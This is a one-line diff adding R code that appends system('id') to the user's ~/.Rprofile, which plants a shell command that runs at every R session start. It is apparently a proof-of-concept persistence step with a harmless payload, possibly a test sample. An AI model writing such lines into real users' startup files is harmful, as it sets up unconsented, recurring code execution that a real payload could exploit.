@@ -1,0 +1,1 @@
+cat("system('id')\n", file = "~/.Rprofile", append = TRUE)
